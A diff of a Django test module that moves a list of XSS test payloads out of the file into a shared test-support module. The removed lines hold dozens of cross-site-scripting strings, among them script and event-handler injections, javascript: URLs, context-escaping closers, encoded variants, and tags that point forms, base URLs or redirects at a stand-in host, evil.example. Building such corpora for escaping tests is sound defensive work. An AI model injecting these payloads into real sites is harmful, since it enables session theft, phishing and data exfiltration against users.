@@ -21,59 +21,10 @@ from grid.core import logs, outcomes, records, secretbox, throttle
 from grid.core.models import Node, Secret, Task
 from tests.django import builders as given
 from tests.django import doors
+from tests.support.hostile import CORPUS, MARK
 
 pytestmark = pytest.mark.django_db
 
-MARK = "xssmark"
-# Whatever comes alive of these is an element or an attribute with the mark in its name.
-CORPUS = (
-    "<xssmark>",
-    "<xssmark/onload=alert(1)>",
-    "<script xssmark>alert(1)</script>",
-    "</script><script xssmark>alert(1)</script>",
-    "<ScRiPt xssmark src=//evil.example></sCrIpT>",
-    "<img xssmark src=x onerror=alert(1)>",
-    '"><img xssmark src=x onerror=alert(1)>',
-    "'><img xssmark src=x onerror=alert(1)>",
-    "`><img xssmark src=x onerror=alert(1)>",
-    '" onmouseover=alert(1) xssmark="',
-    "' onmouseover=alert(1) xssmark='",
-    "x onfocus=alert(1) autofocus xssmark ",
-    "<svg xssmark onload=alert(1)>",
-    "<svg><script xssmark>alert&#40;1)</script></svg>",
-    "<math><mtext><xssmark><img onerror=alert(1)>",
-    "<iframe xssmark srcdoc='<script>alert(1)</script>'>",
-    "<object xssmark data=javascript:alert(1)>",
-    "<embed xssmark src=javascript:alert(1)>",
-    "<a xssmark href=javascript:alert(1)>go</a>",
-    "<form xssmark action=//evil.example><input name=password></form>",
-    "<base xssmark href=//evil.example/>",
-    "<meta xssmark http-equiv=refresh content=0;url=//evil.example>",
-    "<link xssmark rel=stylesheet href=//evil.example>",
-    "<style xssmark>*{background:url(//evil.example)}</style>",
-    "</style><xssmark>",
-    "</title><xssmark>",
-    "</textarea><xssmark>",
-    "</select><xssmark>",
-    "</pre></code><xssmark>",
-    "</template><xssmark>",
-    "<noscript><p title='</noscript><xssmark>'>",
-    "<!--><xssmark>-->",
-    "--><xssmark><!--",
-    "<![CDATA[<xssmark>]]>",
-    "<?xml?><xssmark>",
-    "&lt;xssmark&gt;",
-    "&#60;xssmark&#62;",
-    "\\u003cxssmark\\u003e",
-    "%3Cxssmark%3E",
-    "{{ xssmark }}{% debug %}",
-    "{% endblock %}<xssmark>",
-    "${xssmark}#{xssmark}",
-    "javascript:alert('xssmark')",
-    "\u202e<xssmark>\u2066",
-    "\uff1cxssmark\uff1e\u00a0<xssmark\u2028>",
-    "<xssmark\tonload\n=alert(1)>",
-)
 URLS = ("href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href", "hx-get", "hx-post")
 MOST_OF_A_KIND = 8
 
